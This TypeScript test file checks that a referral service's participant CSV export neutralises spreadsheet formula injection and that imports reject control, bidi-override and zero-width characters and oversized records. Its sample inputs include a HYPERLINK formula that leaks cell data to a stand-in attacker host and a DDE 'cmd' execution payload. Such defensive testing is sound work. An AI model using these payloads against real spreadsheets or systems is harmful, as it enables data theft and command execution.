/**
 * Exports and imports against hostile data: formula injection in the export, the API's input rules on
 * every imported row, all-or-nothing imports, oversized records, and the event loop during a large import.
 */
import assert from 'node:assert/strict';
import { it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { rejects } from './helpers/assert.js';
import { cli } from './helpers/cli.js';
import type { TestService } from './helpers/service.js';
import { eachDatabase } from './helpers/suite.js';
import type { ImportRefusal, ImportResult } from '../../src/api/schemas.js';
import { fromSpreadsheetSafe, spreadsheetSafe } from '../../src/server/kernel/csv-cells.js';

/** The export of a campaign as the dashboard downloads it. */
async function download(s: TestService, id: string): Promise<string> {
  const res = await fetch(`${s.url}/api/v1/admin/exportParticipants?id=${id}`, { headers: { authorization: `Bearer ${s.secretKey}` } });
  assert.equal(res.status, 200);
  return res.text();
}

/** POSTs a CSV body (a string or a stream) to importParticipants; the status and the parsed answer. */
async function importCsv(s: TestService, id: string, body: string | ReadableStream<Uint8Array>): Promise<{ status: number; answer: ImportResult & ImportRefusal }> {
  const res = await fetch(`${s.url}/api/v1/admin/importParticipants?id=${id}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${s.secretKey}`, 'content-type': 'text/csv' },
    body,
    ...(typeof body === 'string' ? {} : { duplex: 'half' }),
  } as RequestInit);
  // One of the two, as the status says.
  return { status: res.status, answer: (await res.json()) as ImportResult & ImportRefusal };
}

async function emailsOf(s: TestService, id: string): Promise<string[]> {
  return (await s.admin.searchParticipants({ id, pageSize: 100 })).participants.map((p) => p.email!).sort();
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '＝1+1', '＋1', '－1', '＠SUM(1)'];

it('spreadsheetSafe quotes every formula start (tab and CR too, full-width forms too) and nothing else; fromSpreadsheetSafe undoes it', () => {
  for (const text of [...FORMULAS, '\t=1', '\r=1', '=', '-']) {
    assert.equal(spreadsheetSafe(text), `'${text}`);
    assert.equal(fromSpreadsheetSafe(spreadsheetSafe(text)), text);
  }
  for (const text of ['Ann', '', "O'Brien", 'a=b', '1-2', 'ann@example.com', "'quoted"]) {
    assert.equal(spreadsheetSafe(text), text);
    assert.equal(fromSpreadsheetSafe(text), text);
  }
});

eachDatabase('exports and imports', (service) => {
  it('export: names and emails a spreadsheet would run start with a quote, in the download and the CLI alike; imported back they are as typed', async () => {
    const s = service();
    const id = await s.campaign();
    // Anonymous sign-ups, as an attacker makes them.
    for (const [i, name] of FORMULAS.entries()) await s.browser.addParticipant({ id, email: `p${i}@example.com`, firstName: name, lastName: name });
    await s.browser.addParticipant({ id, email: '=1+1@example.com', firstName: 'Ann' });
    await s.admin.addParticipant({ id, email: '-2+3@example.com', firstName: 'Plain' });

    const csv = await download(s, id);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const byEmail = new Map(rows.map((r) => [r.email, r]));
    for (const [i, name] of FORMULAS.entries()) {
      assert.equal(byEmail.get(`p${i}@example.com`)?.firstName, `'${name}`);
      assert.equal(byEmail.get(`p${i}@example.com`)?.lastName, `'${name}`);
    }
    assert.equal(byEmail.get("'=1+1@example.com")?.firstName, 'Ann');
    assert.equal(byEmail.get("'-2+3@example.com")?.firstName, 'Plain');
    // No cell of the file starts a formula any more.
    for (const row of rows) for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=+@\t\r＝＋－＠]|^-(?!\d+(\.\d+)?$)/, cell);

    const fromCli = await cli(['participant', 'export', '--campaign', id], { DATABASE_URL: s.database.url });
    assert.equal(fromCli.code, 0, fromCli.stderr);
    assert.equal(fromCli.stdout, csv);

    const copy = await s.campaign({ campaignName: 'Copy' });
    assert.deepEqual(await s.admin.importParticipants(copy, csv), { created: FORMULAS.length + 2, skipped: 0 });
    assert.equal((await s.admin.getParticipant(copy, 'p0@example.com')).firstName, FORMULAS[0]);
    assert.equal((await s.admin.getParticipant(copy, '=1+1@example.com')).firstName, 'Ann');
  });

  it('searchParticipants refuses an infinite or oversized pageSize with 400', async () => {
    const s = service();
    const id = await s.campaign();
    await s.admin.addParticipant({ id, email: 'ann@example.com' });
    for (const pageSize of ['Infinity', '1e400', '-Infinity', '101', '0']) {
      const res = await fetch(`${s.url}/api/v1/admin/searchParticipants?id=${id}&pageSize=${pageSize}`, { headers: { authorization: `Bearer ${s.secretKey}` } });
      assert.equal(res.status, 400, pageSize);
      const { error } = (await res.json()) as { error: { code: string; field?: string } };
      assert.equal(error.code, 'invalid_request');
      assert.equal(error.field, 'pageSize');
    }
  });

  it("import: every row meets addParticipant's rules; control, bidi-override and zero-width characters are refused by line and field, and nothing is stored", async () => {
    const s = service();
    const id = await s.campaign();
    const file = [
      'email,firstName,lastName',
      'nul\u0000@example.com,Nul,',
      'esc@example.com,\u001b[31mRed,',
      'bel@example.com,Bell\u0007,',
      'rlo@example.com,Ann,\u202Eexe.txt',
      'zw\u200b@example.com,Zw,',
      'zwname@example.com,Z\u200bW,',
      'zwj\u200d@example.com,Zwj,',
      'good@example.com,Good,',
    ].join('\n');
    const { status, answer } = await importCsv(s, id, `${file}\n`);
    assert.equal(status, 400);
    assert.equal(answer.error.code, 'invalid_request');
    assert.equal(answer.error.field, 'file');
    assert.match(answer.error.message, /7 of 8 rows/);
    assert.deepEqual(
      answer.error.rows!.map((r) => [r.line, r.field]),
      [[2, 'email'], [3, 'firstName'], [4, 'firstName'], [5, 'lastName'], [6, 'email'], [7, 'firstName'], [8, 'email']],
    );
    assert.deepEqual(await emailsOf(s, id), []);
    // The same rules as addParticipant's, which refuses them too.
    await rejects(() => s.admin.addParticipant({ id, email: 'zwname@example.com', firstName: 'Z\u200bW' }), 400, 'invalid_request', 'firstName');
    await rejects(() => s.admin.addParticipant({ id, email: 'zwj\u200d@example.com' }), 400, 'invalid_request', 'email');
  });

  it('import: all or nothing; a refused row after 1,200 good ones, or a malformed end, leaves participants, counters and referrer as they were', async () => {
    const s = service();
    const id = await s.campaign();
    await s.admin.addParticipant({ id, email: 'ann@example.com' });
    const good = Array.from({ length: 1200 }, (_, i) => `p${i}@example.com,P${i},ann@example.com`);
    const before = await s.admin.getCampaignAnalytics(id);

    const refused = await importCsv(s, id, ['email,firstName,referredByEmail', ...good, 'not-an-email,X,', ''].join('\n'));
    assert.equal(refused.status, 400);
    assert.deepEqual(refused.answer.error.rows, [{ line: 1202, field: 'email', message: 'email must be an email address' }]);
    const malformed = await importCsv(s, id, ['email,firstName,referredByEmail', ...good, '"unclosed,X,', ''].join('\n'));
    assert.equal(malformed.status, 400);
    assert.equal(malformed.answer.error.field, 'file');

    assert.deepEqual(await emailsOf(s, id), ['ann@example.com']);
    assert.equal((await s.admin.getParticipant(id, 'ann@example.com')).totalReferrals, 0);
    assert.deepEqual(await s.admin.getCampaignAnalytics(id), before);

    // Corrected, the same file imports whole.
    assert.deepEqual(await s.admin.importParticipants(id, ['email,firstName,referredByEmail', ...good, ''].join('\n')), { created: 1200, skipped: 0 });
    assert.equal((await s.admin.getParticipant(id, 'ann@example.com')).totalReferrals, 1200);
  });

  it('import: a record over 64 KiB (a long field, or a header of millions of columns) is 413 before it is parsed; nothing is stored', async () => {
    const s = service();
    const id = await s.campaign();
    const columns = await importCsv(s, id, `email${','.repeat(3_000_000)}\nann@example.com\n`);
    assert.equal(columns.status, 413);
    assert.equal(columns.answer.error.code, 'payload_too_large');
    assert.match(columns.answer.error.message, /Record 1 /);
    const field = await importCsv(s, id, `email,firstName\nann@example.com,Ann\nben@example.com,${'x'.repeat(5 * 1024 * 1024)}\n`);
    assert.equal(field.status, 413);
    assert.match(field.answer.error.message, /Record 3 /);
    // A quoted field's line breaks do not end its record.
    const quoted = await importCsv(s, id, `email,firstName\nann@example.com,"${'x\n'.repeat(40_000)}"\n`);
    assert.equal(quoted.status, 413);
    const many = await importCsv(s, id, `${Array.from({ length: 101 }, (_, i) => `c${i}`).join(',')}\n`);
    assert.equal(many.status, 413);
    assert.match(many.answer.error.message, /101 columns/);
    assert.deepEqual(await emailsOf(s, id), []);
    // A row at the limit's side of it imports.
    assert.deepEqual(await s.admin.importParticipants(id, `email,notes\nann@example.com,${'x'.repeat(60 * 1024)}\n`), { created: 1, skipped: 0 });
  });

  it('an upload still arriving holds no database write: sign-ups go through meanwhile, then the import runs whole', async () => {
    const s = service();
    const id = await s.campaign();
    let finish!: () => void;
    const signedUp = new Promise<void>((resolve) => (finish = resolve));
    const encoder = new TextEncoder();
    const body = new ReadableStream<Uint8Array>({
      async start(controller) {
        controller.enqueue(encoder.encode('email,firstName\nslow.0@example.com,Slow\n'));
        // The rest of the file comes only once a sign-up went through.
        await signedUp;
        controller.enqueue(encoder.encode('slow.1@example.com,Slow\n'));
        controller.close();
      },
    });
    const importing = importCsv(s, id, body);
    await new Promise((resolve) => setTimeout(resolve, 200));
    await s.browser.addParticipant({ id, email: 'visitor@example.com' });
    await s.admin.addParticipant({ id, email: 'customer@example.com' });
    finish();
    assert.deepEqual(await importing, { status: 200, answer: { created: 2, skipped: 0 } });
    assert.deepEqual(await emailsOf(s, id), ['customer@example.com', 'slow.0@example.com', 'slow.1@example.com', 'visitor@example.com']);
  });

  it('two imports of one file at once: one creates every row, the other skips them all', async () => {
    const s = service();
    const id = await s.campaign();
    const file = ['email,firstName', ...Array.from({ length: 300 }, (_, i) => `twice.${i}@example.com,Twice`), ''].join('\n');
    const results = await Promise.all([s.admin.importParticipants(id, file), s.admin.importParticipants(id, file)]);
    assert.deepEqual(results.sort((a, b) => b.created - a.created), [{ created: 300, skipped: 0 }, { created: 0, skipped: 300 }]);
    assert.equal((await s.admin.getCampaignAnalytics(id)).funnel.signups, 300);
  });

  it('refkit participant import prints each refused row and imports nothing', async () => {
    const s = service();
    const id = await s.campaign();
    const { mkdtempSync, writeFileSync, rmSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const dir = mkdtempSync(join(tmpdir(), 'refkit-import-'));
    try {
      const file = join(dir, 'people.csv');
      writeFileSync(file, 'email,firstName\nann@example.com,Ann\nben@example.com,Ben\u0007\nnope,X\n');
      const r = await cli(['participant', 'import', '--campaign', id, file], { DATABASE_URL: s.database.url });
      assert.equal(r.code, 1);
      assert.match(r.stderr, /2 of 3 rows cannot be imported/);
      assert.match(r.stderr, /line 3, firstName: firstName must be one line of text/);
      assert.match(r.stderr, /line 4, email: email must be an email address/);
      const json = await cli(['participant', 'import', '--campaign', id, file, '--json'], { DATABASE_URL: s.database.url });
      assert.deepEqual(JSON.parse(json.stderr.split('\n').find((l) => l.startsWith('{'))!).error.rows.map((x: { line: number }) => x.line), [3, 4]);
      assert.deepEqual(await emailsOf(s, id), []);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
